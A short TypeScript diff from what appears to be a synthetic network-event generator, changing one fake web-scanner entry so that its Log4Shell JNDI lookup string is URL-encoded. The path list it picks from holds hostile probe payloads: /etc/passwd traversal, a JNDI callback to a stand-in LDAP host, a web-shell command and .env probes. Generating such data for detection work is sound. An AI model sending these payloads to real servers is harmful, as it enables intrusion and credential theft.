@@ -121,7 +121,7 @@ const relaysMail: Oddity = {
 
 const webTried: Oddity = {
   perDay: 25, isMachine: true,
-  deed: ({ kit, dice }, ms) => [webRequest(kit, ms, { from: `198.19.${dice.int(100, 127)}.${dice.int(1, 254)}`, method: 'GET', path: dice.one(['/wp-login.php', '/.env', '/cgi-bin/luci', '/index.php?page=../../../../etc/passwd', '/?x=${jndi:ldap://198.19.100.9/a}', '/boaform/admin/formLogin', '/shell.php?cmd=id']), status: 404, bytes: 153, userAgent: 'Mozilla/5.0 zgrab/0.x' })],
+  deed: ({ kit, dice }, ms) => [webRequest(kit, ms, { from: `198.19.${dice.int(100, 127)}.${dice.int(1, 254)}`, method: 'GET', path: dice.one(['/wp-login.php', '/.env', '/cgi-bin/luci', '/index.php?page=../../../../etc/passwd', '/?x=%24%7Bjndi:ldap://198.19.100.9/a%7D', '/boaform/admin/formLogin', '/shell.php?cmd=id']), status: 404, bytes: 153, userAgent: 'Mozilla/5.0 zgrab/0.x' })],
 };
 
 export const NETWORK_ODDITIES: readonly Oddity[] = [appliances, sendsMuch, asksOddly, downloadsProgram, relaysMail, webTried];
